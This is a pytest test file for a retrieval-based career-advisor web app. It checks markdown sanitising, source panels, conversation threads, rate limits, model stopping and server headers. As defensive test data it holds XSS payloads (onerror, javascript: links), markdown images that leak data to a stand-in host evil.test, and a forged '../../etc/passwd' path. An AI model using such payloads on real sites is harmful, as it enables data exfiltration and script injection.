"""The page without a browser: what its handlers do, what it serves, what it lets nobody do."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from bs4 import BeautifulSoup
from fakes import FakeEmbedder, ScriptedGenerator
from hypothesis import given, settings
from hypothesis import strategies as st
from pages import copy_pages

from advisor.answer import Advisor, assemble
from advisor.errors import AdvisorError
from advisor.generators import ModelLoader
from advisor.index.build import build_index
from advisor.index.search import Index, open_index
from advisor.settings import Settings
from advisor.types import Message, Source, Vector
from advisor.ui import server
from advisor.ui.conversation import FAILED, STOPPED, Desk, View, converse
from advisor.ui.limits import Limits, Stops
from advisor.ui.markup import harmless, linked, passage_html
from advisor.ui.opening import Opening
from advisor.ui.sources import card, long_date, panel
from advisor.ui.suggest import STARTERS, a, next_questions, read_as
from advisor.ui.thread import Turn, history, pack, places_of, source_at, unpack
from advisor.writers.model import ModelWriter

MOVE = "I am a data engineer. How do I become an ML engineer?"
COMPARE = "What is the difference between a data engineer and an ML engineer?"
PIZZA = "Where is the best pizza in Naples?"


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Index:
    folder = tmp_path_factory.mktemp("page")
    embedder = FakeEmbedder()
    copy_pages(folder / "corpus")
    build_index([folder / "corpus"], folder / "index", embedder.name, lambda: embedder)
    return open_index(folder / "index", embedder)


@pytest.fixture
def advisor(index: Index) -> Advisor:
    return assemble(index, Settings())


def desk_with(advisor: Advisor | None, **dials: Any) -> Desk:
    dialed = Settings(**dials)
    desk = Desk(dialed, Opening(dialed))
    if advisor:
        advisor.settings = dialed
        desk.opening.give(advisor)
    return desk


def with_model(advisor: Advisor, generator: ScriptedGenerator) -> Advisor:
    advisor.rewriter = ModelWriter(advisor.index, advisor.lexicon, generator, advisor.settings)
    return advisor


def ask(desk: Desk, question: str, thread: str = "", visitor: str = "a") -> View:
    """The last view of a question."""
    views = list(converse(desk, question, thread, visitor))
    assert views[-1].done and not any(view.done for view in views[:-1])
    return views[-1]


# markup


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](http://evil.test/leak?q=1)", "x"),
        ("[![x](http://evil.test/a)](http://evil.test/b)", "x"),
        ("[read](javascript:alert(1))", "read"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
        ("<form action=/a><input type=password></form>", "\\<form action=/a>\\<input"),
        ("![x][leak]\n\n[leak]: http://evil.test/a", "\\![x][leak]"),
        ("see https://evil.test/a?b", "see `https://evil.test/a?b`"),
        ("1 < 2 and a <3 b stay", "1 < 2 and a <3 b stay"),
        ("**bold** [1] and C[2]", "**bold** [1] and C[2]"),
    ],
)
def test_an_answer_keeps_no_image_link_or_element(text: str, shown: str) -> None:
    assert harmless(text).startswith(shown)
    assert "](" not in harmless(text)


@pytest.mark.parametrize(
    "piece", ["`", "[", "[a](", "![a](", "<a", "[a]: b\n", "www.", "a.b+", "*a "]
)
def test_no_text_keeps_the_page_busy(piece: str) -> None:
    text = (piece * 12_000)[:12_000]
    begun = time.perf_counter()
    linked(text, 1, [1])
    passage_html(text[:1800], [(3, 40)])
    assert time.perf_counter() - begun < 1.0


def test_a_number_leads_to_the_passage_of_its_own_turn_and_only_to_one_there_is() -> None:
    assert linked("Yes. [1][2] No [7].", 3, [1, 2]) == (
        "Yes. [[1]](#src-3-1)[[2]](#src-3-2) No [7]."
    )


def marked(html: str) -> str:
    return " ".join(one.get_text() for one in BeautifulSoup(html, "html.parser").find_all("mark"))


def test_a_passage_is_paragraphs_lists_and_tables_with_the_quoted_spans_marked() -> None:
    text = "Two parts:\n\n- **One** is `big`.\n- Two is small.\n\n| A | B |\n|---|---|\n| c | d |"
    start = text.index("- **One")
    row = text.index("| c | d |")
    html = passage_html(text, [(start, text.index(" Two") - 2), (row, row + 9)])
    soup = BeautifulSoup(html, "html.parser")
    assert [one.get_text() for one in soup.find_all("li")] == ["One is big.", "Two is small."]
    assert [one.get_text() for one in soup.find_all("td")] == ["c", "d"]
    assert marked(html) == "One  is  big . c d"
    assert all(one.parent.name in ("strong", "li", "code", "td") for one in soup.find_all("mark"))


@pytest.mark.parametrize("kind", ["script", "img", "iframe", "a", "form", "input"])
def test_a_passage_can_hold_no_element_of_its_own(kind: str) -> None:
    html = passage_html(
        f"Look: <{kind} src=x href=y onload=z> [t](http://e.test) ![i](http://e.test)"
    )
    assert BeautifulSoup(html, "html.parser").find(kind) is None
    assert f"&lt;{kind} src=x" in html


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="ab *_-`|#<>\n1.[]()!\ue000", max_size=60), st.data())
def test_marks_change_no_word_of_a_passage_and_close_where_they_open(text: str, data: Any) -> None:
    ends = st.integers(0, len(text))
    marks = data.draw(st.lists(st.tuples(ends, ends), max_size=3))
    html = passage_html(text, marks)
    assert html.count("<mark>") == html.count("</mark>")
    soup = BeautifulSoup(html, "html.parser")
    assert "\ue000" not in html and "\ue001" not in html
    assert not soup.find_all(["script", "img", "a", "form"])
    assert all(one.find() is None for one in soup.find_all("mark"))


# sources


def test_every_source_can_be_shown_again_from_its_place(advisor: Advisor) -> None:
    for question in (COMPARE, MOVE, "What is Docker for?"):
        draft = advisor.ask(question).first
        again = [source_at(one, advisor.index.document) for one in places_of(draft)]
        assert draft.sources and tuple(again) == draft.sources


def test_the_panel_groups_sources_by_answer_with_ids_of_their_turn(advisor: Advisor) -> None:
    turns = ask(desk_with(advisor), COMPARE).turns
    turns += ask(desk_with(advisor), MOVE, pack(turns)).turns[1:]
    soup = BeautifulSoup(panel(turns, advisor.index.document), "html.parser")
    assert [one["id"] for one in soup.select("details")] == ["sources-2", "sources-1"]
    assert [one.has_attr("open") for one in soup.select("details")] == [True, False]
    card = soup.select_one("#src-1-1")
    assert card is not None and card["tabindex"] == "-1"
    document = advisor.index.document(turns[0].places[0].path)
    assert card.select_one(".title").get_text() == document.title
    assert "match" in card.select_one(".match").get_text()
    assert "Updated 20 November 2026" in card.select_one("footer").get_text()
    quoted = {claim for claim in marked(str(card)).split(".") if claim}
    assert quoted and all(part.strip() in card.get_text() for part in quoted)


def test_a_source_names_its_own_works_without_telling_them_where_one_comes_from() -> None:
    hostile = Source(
        1, "<b>T</b>", 'H"onload=x', "p.md", 0, 4, "text", "weak", "2026-02-30",
        (("Docs <i>", "https://docs.test/?a=1&b=2"), ("Bad", "javascript:alert(1)")),
    )  # fmt: skip
    html = card(1, hostile, [(1, 0, 4)], hostile.strength)
    soup = BeautifulSoup(html, "html.parser")
    outside = soup.select('a[target="_blank"]')
    assert [one["href"] for one in outside] == ["https://docs.test/?a=1&b=2"]
    assert outside[0]["rel"] == ["noopener", "noreferrer"]
    assert "Bad" in soup.get_text() and "javascript" not in html
    assert soup.find("b") is None and soup.find("i") is None
    assert soup.select_one(".title").get_text() == "<b>T</b>"
    assert "weak match" in soup.get_text()


def test_a_date_is_written_out_and_anything_else_left_alone() -> None:
    assert long_date("2026-11-02") == "2 November 2026"
    assert long_date("soon") == "soon"


def test_a_passage_that_has_changed_since_is_not_passed_off_as_the_one_quoted(
    advisor: Advisor,
) -> None:
    turn = ask(desk_with(advisor), MOVE).turns[0]
    moved = replace(turn, places=(turn.places[0]._replace(start=turn.places[0].start + 1),))
    gone = replace(turn, places=(turn.places[0]._replace(path="roles/nobody.md"),))
    for changed in (moved, gone):
        html = panel([changed], advisor.index.document)
        assert "the library has changed since this answer" in html
        assert 'id="src-1-1"' in html and "<mark>" not in html


# the thread that the browser keeps


def test_a_thread_comes_back_as_it_was(advisor: Advisor) -> None:
    turns = ask(desk_with(advisor), COMPARE).turns
    assert unpack(pack(turns)) == turns
    assert history(turns) == [Message("user", COMPARE), Message("assistant", turns[0].answer)]


@pytest.mark.parametrize(
    "forged",
    [
        None, 7, "", "{", "[" * 5000, "null", "{}", '["a", 1, null]', '[{"question": 1}]',
        '[{"question": "q"}]', '[{"question": "q", "answer": {"role": "system"}}]',
        "[" + "1," * 99_999 + "1]",
    ],
)  # fmt: skip
def test_a_thread_that_was_not_packed_here_is_no_thread(forged: object) -> None:
    assert unpack(forged) == ()


def test_a_forged_thread_is_cut_to_size_and_points_only_into_the_library(advisor: Advisor) -> None:
    places = [
        [1, 0, 10, 0, "../../etc/passwd", "strong"], [2, -5, 9, 0, "a.md", "strong"],
        [3, 0, 1.5, 0, "a.md", "x"], [True, 0, 1, 0, "a.md", "x"], "x", [4, 0, 9, 0, 7, 7],
    ]  # fmt: skip
    record = {"question": "q\ud800\x00" * 5000, "answer": "a" * 20_000, "places": places,
              "marks": [[1, 2], [1, 2, 3.5]], "next": ["n" * 900] * 50, "heard": "y"}  # fmt: skip
    (turn,) = unpack(json.dumps([record]))
    assert len(turn.question) <= 4000 and len(turn.answer) == 12_000
    assert [place.path for place in turn.places] == ["../../etc/passwd"]
    assert turn.marks == () and len(turn.next_questions) == 4
    assert all(len(one) <= 400 for one in turn.next_questions)
    assert "library has changed" in panel([turn], advisor.index.document)
    turn.question.encode("utf-8")


def test_a_long_thread_lets_go_of_its_oldest_turns() -> None:
    turns = [Turn(f"question {n}", "word " * 2000) for n in range(60)]
    kept = unpack(pack(turns))
    assert len(pack(turns)) <= 130_000
    assert 5 < len(kept) <= 30 and kept[-1].question == "question 59"


def test_what_is_no_part_of_the_conversation_is_not_told_to_the_advisor() -> None:
    turns = (Turn("q", "a"), Turn("r", "Too many.", heard=False))
    assert [one.content for one in history(turns)] == ["q", "a"]


# what is offered, and how a question was read


def test_a_plain_question_is_not_explained_and_a_follow_up_is(advisor: Advisor) -> None:
    assert read_as(advisor.ask(MOVE), advisor) == ""
    said = [Message("user", MOVE), Message("assistant", "Six steps.")]
    then = advisor.ask("How long does it take?", said)
    assert read_as(then, advisor) == "Data engineer → ML engineer · how long it takes"


def test_a_misspelt_question_says_what_was_read(advisor: Advisor) -> None:
    assert read_as(advisor.ask("What does a data enginer do?"), advisor).startswith("Data ")


def test_a_refusal_claims_no_reading(advisor: Advisor) -> None:
    assert read_as(advisor.ask(PIZZA), advisor) == ""


@pytest.mark.parametrize("question", [COMPARE, MOVE, "What is Docker?", "What is SQL?", "hello"])
def test_what_is_offered_follows_on_and_can_be_answered(advisor: Advisor, question: str) -> None:
    answer = advisor.ask(question)
    offered = next_questions(answer, advisor, [])
    said = [Message("user", question), Message("assistant", answer.first.text)]
    assert 1 <= len(offered) <= 3 and question not in offered
    assert not any(advisor.ask(one, said).refused for one in offered)
    again = next_questions(answer, advisor, [Message("user", offered[0])])
    assert offered[0] not in again


def test_what_was_just_answered_is_not_offered_again(advisor: Advisor) -> None:
    offered = next_questions(advisor.ask("When is Docker overkill?"), advisor, [])
    assert "When should I not use Docker?" not in offered
    assert "What can I use instead of Docker?" in offered


def test_nothing_is_offered_to_who_is_in_distress_or_says_goodbye(advisor: Advisor) -> None:
    for words in ("I want to die", "bye"):
        assert next_questions(advisor.ask(words), advisor, []) == ()


def test_starters_cover_the_kinds_of_questions(advisor: Advisor) -> None:
    shapes = {advisor.read(one).shape for one in STARTERS}
    assert {"comparison", "steps"} <= shapes
    assert len(STARTERS) == 5 and len(set(STARTERS)) == 5


@pytest.mark.parametrize(
    ("name", "with_article"),
    [("data engineer", "a data engineer"), ("ML engineer", "an ML engineer"),
     ("analytics engineer", "an analytics engineer"), ("BI developer", "a BI developer")],
)  # fmt: skip
def test_a_name_gets_its_article(name: str, with_article: str) -> None:
    assert a(name) == with_article


# limits


def test_a_visitor_may_ask_so_often_in_a_minute_and_then_again() -> None:
    now = [0.0]
    limits = Limits(per_minute=2, at_once=9, clock=lambda: now[0])
    assert [limits.enter("a"), limits.enter("a")] == ["", ""]
    assert limits.enter("a") == (
        "That is more than 2 questions in a minute; please ask again in 61 seconds."
    )
    assert limits.enter("b") == ""
    now[0] = 60.5
    assert limits.enter("a") == ""


def test_so_many_are_answered_at_once_and_a_seat_is_given_back() -> None:
    limits = Limits(at_once=1)
    assert limits.enter("a") == ""
    assert limits.enter("b").startswith("Many people are asking")
    limits.leave()
    assert limits.enter("b") == ""


def test_a_newer_answer_takes_over_from_the_one_that_runs() -> None:
    stops = Stops()
    older = stops.begin("a")
    newer = stops.begin("a")
    assert older.is_set() and not newer.is_set()
    assert stops.is_current("a", newer) and not stops.is_current("a", older)
    stops.end("a", older)
    stops.stop("a")
    assert newer.is_set()


# a question on its way


def test_the_question_is_shown_at_once_and_the_cited_answer_next(advisor: Advisor) -> None:
    views = converse(desk_with(advisor), MOVE, "", "a")
    begun = time.perf_counter()
    first = next(views)
    assert time.perf_counter() - begun < 0.1
    assert first.turns == (Turn(MOVE),) and first.pending == "Reading the library"
    second = next(views)
    assert "[1]" in second.turns[0].answer and second.turns[0].places[0].n == 1
    last = list(views)[-1]
    assert last.done and "What carries over?" in last.turns[0].next_questions


def test_a_follow_up_is_read_from_the_thread_and_leaves_it_as_it_was(advisor: Advisor) -> None:
    desk = desk_with(advisor)
    before = ask(desk, MOVE).turns
    after = ask(desk, "How long does it take?", pack(before)).turns
    assert after[0] == before[0]
    assert after[1].read_as == "Data engineer → ML engineer · how long it takes"
    assert re.search(r"\bmonths\b", after[1].answer)


def test_two_visitors_never_see_each_other(advisor: Advisor) -> None:
    desk = desk_with(advisor)
    ours, theirs = converse(desk, MOVE, "", "a"), converse(desk, "What is Docker?", "", "b")
    seen: dict[str, list[View]] = {"a": [], "b": []}
    for mine, other in zip(ours, theirs, strict=False):
        seen["a"].append(mine)
        seen["b"].append(other)
    assert all(view.turns[0].question == MOVE for view in seen["a"])
    assert all("Docker" in view.turns[0].question for view in seen["b"])
    assert ask(desk, "How long does it take?", "", "c").turns[0].read_as == ""


def test_too_long_a_question_is_answered_with_what_to_do(advisor: Advisor) -> None:
    turn = ask(desk_with(advisor, question_chars=100), "why " * 40).turns[0]
    assert turn.answer == (
        "Your question has 159 characters; I read up to 100. Please ask it in fewer words."
    )
    assert not turn.heard and len(turn.question) <= 303


def test_too_many_questions_are_answered_and_the_conversation_stays(advisor: Advisor) -> None:
    desk = desk_with(advisor)
    desk.limits = Limits(per_minute=1)
    kept = ask(desk, MOVE).turns
    turns = ask(desk, "And then?", pack(kept)).turns
    assert turns[0] == kept[0]
    assert turns[1].answer.startswith("That is more than 1 questions in a minute")


@pytest.mark.parametrize("question", ["", "   ", "\x00\u202e", "?!", None, ["list"], "\ud800"])
def test_an_empty_or_broken_question_gets_a_sentence(advisor: Advisor, question: Any) -> None:
    assert "Type a question" in ask(desk_with(advisor), question).turns[0].answer


def test_a_seat_is_given_back_however_an_answer_ends(advisor: Advisor) -> None:
    desk = desk_with(advisor)
    desk.limits = Limits(at_once=1)
    abandoned = converse(desk, MOVE, "", "a")
    next(abandoned)
    abandoned.close()
    assert ask(desk, MOVE).turns[0].heard


def test_a_question_waits_for_the_library_and_is_then_answered(advisor: Advisor) -> None:
    desk = desk_with(None)
    desk.opening.start = lambda: None  # type: ignore[method-assign]
    desk.opening.doing = "Reading the library for the first time: 40 %"
    views = converse(desk, MOVE, "", "a")
    assert [next(views).pending for _ in range(3)][-1].endswith("40 %")
    desk.opening.give(advisor)
    assert "[1]" in list(views)[-1].turns[0].answer


def test_why_there_is_no_library_is_said_and_no_part_of_the_conversation() -> None:
    desk = desk_with(None)
    desk.opening.start = lambda: None  # type: ignore[method-assign]
    desk.opening.failure = "No readable document in corpus; put Markdown there."
    turn = ask(desk, MOVE).turns[0]
    assert turn.answer == "No readable document in corpus; put Markdown there."
    assert not turn.heard


def test_no_traceback_reaches_a_person(
    advisor: Advisor, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(*_: object) -> None:
        raise RuntimeError("/secret/path sk-123")

    desk = desk_with(advisor)
    monkeypatch.setattr(type(advisor), "ask", fail)
    assert ask(desk, MOVE).turns[0].answer == FAILED
    assert "sk-123" in caplog.text and MOVE not in caplog.text


# with a language model


SUPPORTED = "A data engineer focuses on data pipelines and infrastructure."


def slow(**options: Any) -> ScriptedGenerator:
    return ScriptedGenerator([f"{SUPPORTED} "] * 3, endless=True, **options)


def test_the_models_words_take_the_place_of_the_first_draft(advisor: Advisor) -> None:
    focus = advisor.ask("What is the main focus of a data engineer?").first
    sentence = re.split(r"\[\d+\]", focus.text)[0]
    desk = desk_with(with_model(advisor, ScriptedGenerator(sentence)))
    views = list(converse(desk, "What is the main focus of a data engineer?", "", "a"))
    assert views[1].turns[0].answer == focus.text
    assert "language model is writing" in views[1].pending
    assert views[-1].turns[0].answer.startswith(f"{sentence}[")
    assert views[-1].done and not views[-1].pending


def test_a_silent_model_lets_the_page_breathe_four_times_a_second(advisor: Advisor) -> None:
    generator = slow(hold=threading.Event())
    views = converse(desk_with(with_model(advisor, generator)), MOVE, "", "a")
    next(views), next(views)
    gaps = []
    for _ in range(5):
        begun = time.perf_counter()
        next(views)
        gaps.append(time.perf_counter() - begun)
    views.close()
    assert sorted(gaps)[2] < 0.3 and max(gaps) < 1.0  # a busy machine may be late once


def wait_for(condition: Any, seconds: float = 3.0) -> bool:
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        if condition():
            return True
        time.sleep(0.02)
    return False


def until_the_model_writes(views: Iterator[View], generator: ScriptedGenerator) -> None:
    assert wait_for(lambda: next(views) and generator.calls)


def test_stop_ends_the_answer_and_the_work_behind_it(advisor: Advisor) -> None:
    generator = slow(hold=threading.Event())
    desk = desk_with(with_model(advisor, generator))
    views = converse(desk, MOVE, "", "a")
    until_the_model_writes(views, generator)
    desk.stops.stop("a")
    begun = time.perf_counter()
    stopped = next(view for view in views if view.turns[0].note == STOPPED)
    assert time.perf_counter() - begun < 1.0
    assert "[1]" in stopped.turns[0].answer and not stopped.pending
    assert list(views)[-1].done
    assert wait_for(lambda: generator.closed == 1)


def test_leaving_ends_the_work_behind_an_answer(advisor: Advisor) -> None:
    generator = slow(hold=threading.Event())
    views = converse(desk_with(with_model(advisor, generator)), MOVE, "", "a")
    until_the_model_writes(views, generator)
    views.close()
    assert wait_for(lambda: generator.closed == 1)


def test_another_question_takes_over_and_the_older_answer_says_no_more(advisor: Advisor) -> None:
    generator = slow(hold=threading.Event())
    desk = desk_with(with_model(advisor, generator))
    older = converse(desk, MOVE, "", "a")
    next(older), next(older)
    newer = converse(desk, "What is Docker?", "", "a")
    next(newer)
    assert list(older) == []
    assert "Docker" in next(newer).turns[0].answer
    newer.close()


def test_a_model_that_never_ends_is_stopped_by_the_clock(
    advisor: Advisor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("advisor.ui.conversation.GRACE_SECONDS", 0.0)
    generator = slow(hold=threading.Event())
    advisor.settings = Settings(answer_seconds=60)
    desk = desk_with(with_model(advisor, generator), answer_seconds=0.5)
    begun = time.perf_counter()
    turn = ask(desk, MOVE).turns[0]
    assert 0.4 < time.perf_counter() - begun < 5.0
    assert turn.note == "Stopped after 0.5 seconds." and "[1]" in turn.answer


# opening


@pytest.fixture
def fake_weights(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("advisor.index.embedder.open_embedder", lambda settings: FakeEmbedder())


def dials(folder: Path) -> Settings:
    return Settings(corpus=(folder / "corpus",), index=folder / "index", embedder="fake/words")


@pytest.mark.usefixtures("fake_weights")
def test_an_index_is_built_when_there_is_none_and_again_when_a_page_changed(tmp_path: Path) -> None:
    copy_pages(tmp_path / "corpus")
    calls: list[str] = []
    opening = Opening(dials(tmp_path), lambda: calls.append("opened"))
    opening.start()
    first = opening.wait(20)
    assert first is not None, opening.failure
    assert len(first.index.documents) == 9 and wait_for(lambda: calls == ["opened"])
    (tmp_path / "corpus/new.md").write_text("# News\n\nSomething new stands here.")
    later = Opening(dials(tmp_path))
    later.start()
    assert wait_for(lambda: later.advisor and len(later.advisor.index.documents) == 10, 20)


@pytest.mark.usefixtures("fake_weights")
def test_an_index_that_was_damaged_is_built_again(tmp_path: Path) -> None:
    copy_pages(tmp_path / "corpus")
    build_index([tmp_path / "corpus"], tmp_path / "index", "fake/words", FakeEmbedder)
    (vectors,) = (tmp_path / "index").rglob("vectors.faiss")
    vectors.write_bytes(vectors.read_bytes()[:-8])
    opening = Opening(dials(tmp_path))
    opening.start()
    assert opening.wait(20) is not None, opening.failure


@pytest.mark.usefixtures("fake_weights")
def test_an_index_of_other_weights_is_built_again(tmp_path: Path) -> None:
    class Before(FakeEmbedder):
        def _vector(self, text: str) -> Vector:
            return np.ascontiguousarray(np.roll(super()._vector(text), 7))

    copy_pages(tmp_path / "corpus")
    build_index([tmp_path / "corpus"], tmp_path / "index", "fake/words", Before)
    opening = Opening(dials(tmp_path))
    opening.start()
    assert opening.wait(20) is not None, opening.failure


def test_a_model_that_comes_later_serves_every_advisor(advisor: Advisor, index: Index) -> None:
    opening = Opening(Settings())
    opening.give(advisor)
    equipped: list[Advisor] = []
    opening.equip(equipped.append)
    later = assemble(index, Settings())
    opening.give(later)
    assert equipped == [advisor, later]


@pytest.mark.usefixtures("fake_weights")
def test_a_library_that_cannot_be_opened_says_why_and_is_tried_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    opening = Opening(dials(tmp_path))
    opening.start()
    assert wait_for(lambda: opening.failure, 10)
    assert re.match(r"The corpus folder .*corpus is not there", opening.failure)
    copy_pages(tmp_path / "corpus")
    opening.start()
    assert opening.failure  # a moment after a failure it is not tried again
    monkeypatch.setattr("advisor.ui.opening.RETRY_SECONDS", 0.0)
    opening.start()
    assert opening.wait(20) is not None


# served


class Served:
    """The page on a port."""

    def __init__(self, advisor: Advisor) -> None:
        self.desk = desk_with(advisor)
        self.loader = ModelLoader(Settings(writer="extractive"))
        self.port = server.free_port("127.0.0.1", 0)
        self.page = server.serve(self.desk, self.loader, "127.0.0.1", self.port)
        self.url = f"http://127.0.0.1:{self.port}"

    def get(self, path: str, **options: Any) -> tuple[int, Any, bytes]:
        request = urllib.request.Request(self.url + path, **options)
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:
                return answer.status, answer.headers, answer.read()
        except urllib.error.HTTPError as error:
            return error.code, error.headers, error.read()

    def post(self, path: str, record: Any) -> tuple[int, bytes]:
        body = record if isinstance(record, bytes) else json.dumps(record).encode()
        headers = {"content-type": "application/json"}
        status, _, said = self.get(path, data=body, headers=headers, method="POST")
        return status, said


@pytest.fixture(scope="module")
def served(index: Index) -> Iterator[Served]:
    one = Served(assemble(index, Settings()))
    yield one
    one.page.close(verbose=False)


def test_every_answer_of_the_server_carries_the_headers(served: Served) -> None:
    for path in ("/", "/config", "/healthz", "/nowhere"):
        headers = served.get(path)[1]
        assert headers["x-content-type-options"] == "nosniff"
        policy = headers["content-security-policy"]
        assert "default-src 'self'" in policy and "form-action 'none'" in policy
        assert "http:" not in policy and "*;" not in policy


def test_health_says_that_the_library_is_there(served: Served) -> None:
    status, _, said = served.get("/healthz")
    assert status == 200
    assert json.loads(said) == {
        "status": "ok",
        "ready": True,
        "settled": False,
        "state": "The settings leave the language model out: answering from the library alone.",
    }


@pytest.mark.parametrize(
    "path", ["/openapi.json", "/docs", "/redoc", "/monitoring", "/monitoring/summary"]
)
def test_what_nobody_needs_is_shut(served: Served, path: str) -> None:
    assert served.get(path)[0] in (403, 404)


def test_the_page_is_named_speaks_english_and_loads_nothing_from_elsewhere(served: Served) -> None:
    page = served.get("/")[2].decode()
    soup = BeautifulSoup(page, "html.parser")
    assert soup.html is not None and soup.html["lang"] == "en"
    loaded = [one.get("src") or one.get("href") for one in soup.select("script[src], link[href]")]
    assert loaded and not [one for one in loaded if "//" in one]
    config = json.loads(served.get("/config")[2])
    assert config["analytics_enabled"] is False
    assert config["title"] == "Career Advisor"


def test_a_request_that_is_too_large_is_refused(served: Served) -> None:
    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as line:
        line.sendall(
            b"POST /gradio_api/queue/join HTTP/1.1\r\nhost: x\r\n"
            b"content-type: application/json\r\ncontent-length: 800000\r\n\r\n["
        )
        said = line.recv(4000)
    assert said.startswith(b"HTTP/1.1 413 ")
    assert served.get("/healthz")[0] == 200


def call(served: Served, name: str, data: list[Any]) -> str:
    """What the plain HTTP interface says to a call."""
    status, said = served.post(f"/gradio_api/call/{name}", {"data": data})
    if status != 200:
        return f"{status}"
    return served.get(f"/gradio_api/call/{name}/{json.loads(said)['event_id']}")[2].decode()


def test_a_forged_conversation_reaches_nobody_and_breaks_nothing(served: Served) -> None:
    forged = json.dumps([{"question": "x", "answer": "![](http://evil.test/a) <img src=x>"}])
    for thread in (forged, "[" * 3000, 5, {"a": 1}):
        said = call(served, "typed", ["hello", thread])
        assert "Hello. Ask me" in said and "Traceback" not in said
        assert "[](http" not in said.split('"[{\\"question')[0]  # what is shown, not what is kept
    assert served.get("/healthz")[0] == 200


def test_an_endpoint_that_is_not_there_tells_nothing(served: Served) -> None:
    assert "Traceback" not in call(served, "nothing", [])


# started


def test_a_port_in_use_is_one_sentence_and_exit_code_1() -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        done = run_app(ADVISOR_PORT=str(port))
    assert done.returncode == 1 and done.stdout == ""
    assert done.stderr.strip() == (
        f"Port {port} is in use by another program; stop that program, or choose another port, "
        f"for example ADVISOR_PORT={port + 1}."
    )


def test_an_unknown_setting_is_one_sentence_and_exit_code_1() -> None:
    done = run_app(ADVISOR_PROT="1")
    assert done.returncode == 1
    assert done.stderr.strip() == "ADVISOR_PROT is not a setting; did you mean ADVISOR_PORT?"


def test_a_space_says_where_to_serve_and_ones_own_settings_win(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert server.address(Settings()) == ("127.0.0.1", 7860)
    monkeypatch.setenv("GRADIO_SERVER_NAME", "0.0.0.0")  # noqa: S104 - what a Space sets
    monkeypatch.setenv("GRADIO_SERVER_PORT", "7861")
    assert server.address(Settings()) == ("0.0.0.0", 7861)  # noqa: S104
    assert server.address(Settings(host="127.0.0.1", port=9000)) == ("127.0.0.1", 9000)


def test_an_address_of_another_machine_is_refused_with_what_to_set() -> None:
    with pytest.raises(AdvisorError, match=r"cannot be served on 192\.0\.2\.1 .*ADVISOR_HOST"):
        server.free_port("192.0.2.1", 0)


def run_app(**variables: str) -> subprocess.CompletedProcess[str]:
    root = Path(__file__).resolve().parent.parent
    kept = {name: value for name, value in os.environ.items() if not name.startswith("ADVISOR_")}
    return subprocess.run(
        [sys.executable, "app.py"], cwd=root, env={**kept, **variables}, capture_output=True,
        text=True, timeout=60, check=False,
    )  # fmt: skip
